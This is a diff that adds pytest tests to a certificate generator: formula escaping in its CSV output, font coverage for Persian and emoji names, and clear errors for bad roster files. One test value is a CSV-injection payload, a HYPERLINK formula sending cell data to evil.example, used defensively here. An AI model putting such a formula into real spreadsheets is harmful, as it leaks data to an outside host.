@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import os
 from pathlib import Path
 
 import pytest
@@ -133,4 +134,95 @@ def test_no_certificates_without_the_issuer_key(issuer: Issuer, tmp_path: Path) 
                      "--track", "laerer", "--out", str(tmp_path / "out"), "--keys", str(tmp_path / "nokeys"))
     assert result.returncode == 1
     assert "keys init" in result.stderr
+    assert not (tmp_path / "out").exists()
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1;"Klik")', "+45 Mette", "-Anne Berg", "@SUM(A1)"]
+PERSIAN = "مریم\u200cالسادات رضایی"
+
+
+def test_formula_names_stay_text_and_any_script_prints(issuer: Issuer, tmp_path: Path) -> None:
+    """Names that would be spreadsheet formulas reach kursusbeviser.csv as text (a leading apostrophe)
+    and the PDFs unchanged; a Persian name with a zero-width non-joiner and an emoji print too."""
+    roster = tmp_path / "deltagere.csv"
+    names = [*FORMULAS, PERSIAN, "Ida Holm 😀"]
+    quoted = ['"' + n.replace('"', '""') + '"' for n in names]
+    roster.write_text("Navn;Sted\n" + "".join(f"{q};A\n" for q in quoted), "utf-8")
+    out = tmp_path / "out"
+    result = certificates(issuer, roster, out)
+    assert result.returncode == 0, result.stderr
+    rows = register(out)
+    assert [r["navn"] for r in rows] == ["'" + n for n in FORMULAS] + names[4:]
+    with (out / "kursusbeviser.csv").open(encoding="utf-8-sig", newline="") as handle:
+        cells = [cell for row in csv.reader(handle, delimiter=";") for cell in row]
+    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
+    singles = sorted(out.glob("0*.pdf"))
+    for name, single in zip(names, singles, strict=True):
+        assert " ".join(name.split()) in pdf_text(single) or name == PERSIAN
+    # Persian is shaped right to left: pypdf gives its letters back in visual order, so compare letters.
+    assert set(PERSIAN.replace("\u200c", "").replace(" ", "")) <= set(pdf_text(singles[4]))
+    # Every visible character is drawn (WeasyPrint once drew the emoji blank beside a Persian name).
+    for single in [*singles, out / "alle-kursusbeviser.pdf"]:
+        assert blank_glyphs(single) == [], single.name
+
+
+def blank_glyphs(path: Path) -> list[str]:
+    """Characters a PDF's embedded TrueType fonts map to an empty outline (the PDF shows nothing there)."""
+    import io
+    import re
+    import unicodedata
+
+    from fontTools.ttLib import TTFont
+
+    blank = []
+    for page in PdfReader(path).pages:
+        for font in page["/Resources"]["/Font"].values():
+            font = font.get_object()
+            descriptor = font["/DescendantFonts"][0].get_object()["/FontDescriptor"].get_object()
+            if "/FontFile2" not in descriptor or "/ToUnicode" not in font:
+                continue  # CFF fonts (EB Garamond, Cabin) are bundled and complete
+            embedded = TTFont(io.BytesIO(descriptor["/FontFile2"].get_object().get_data()))
+            order, glyphs = embedded.getGlyphOrder(), embedded["glyf"]
+            cmap = font["/ToUnicode"].get_object().get_data().decode("latin-1")
+            for gid, utf16 in re.findall(r"<([0-9a-f]{4})> <([0-9a-f]+)>", cmap):
+                text = bytes.fromhex(utf16).decode("utf-16-be")
+                visible = any(not c.isspace() and not unicodedata.category(c).startswith("C") for c in text)
+                if visible and int(gid, 16) < len(order) and glyphs[order[int(gid, 16)]].numberOfContours == 0:
+                    blank.append(f"{font['/BaseFont']}: {text!r}")
+    return blank
+
+
+def test_a_name_the_fonts_cannot_print_is_refused_with_its_line(issuer: Issuer, tmp_path: Path) -> None:
+    roster = tmp_path / "deltagere.csv"
+    roster.write_text("Navn\nAnna\nIda 👩\u200d💻 Holm\n", "utf-8")
+    result = certificates(issuer, roster, tmp_path / "out")
+    assert result.returncode == 1
+    assert f"{roster}:3: the name contains 👩 (U+1F469 WOMAN), which the certificate fonts" in result.stderr
+    assert "Traceback" not in result.stderr
+    assert not (tmp_path / "out").exists()
+
+
+def test_an_unclosed_quote_stops_the_run_at_its_line(issuer: Issuer, tmp_path: Path) -> None:
+    roster = tmp_path / "deltagere.csv"
+    roster.write_text('Navn;Sted\nAnna;A\n"Bo;B\nCarl;C\nDina";D\n', "utf-8")
+    result = certificates(issuer, roster, tmp_path / "out")
+    assert result.returncode == 1
+    assert f'{roster}:3: a quote (") opened in this line is only closed in line 5' in result.stderr
+    assert "Traceback" not in result.stderr and not (tmp_path / "out").exists()
+
+
+def test_a_fifo_folder_device_or_dangling_link_as_roster_is_a_clear_error(issuer: Issuer, tmp_path: Path) -> None:
+    fifo = tmp_path / "fifo.csv"
+    os.mkfifo(fifo)
+    dangling = tmp_path / "dangling.csv"
+    dangling.symlink_to(tmp_path / "gone.csv")
+    folder = tmp_path / "folder.csv"
+    folder.mkdir()
+    for roster, what in ((fifo, "is a FIFO (named pipe), not a file"), (folder, "is a folder, not a file"),
+                         (Path("/dev/zero"), "is a device, not a file"),
+                         (dangling, "is a symbolic link to nothing")):
+        result = certificates(issuer, roster, tmp_path / "out")  # run_cli's timeout fails a hang
+        assert result.returncode == 1, (roster, result.stderr)
+        assert f"{roster}: the roster {what}" in result.stderr
+        assert "Traceback" not in result.stderr
     assert not (tmp_path / "out").exists()
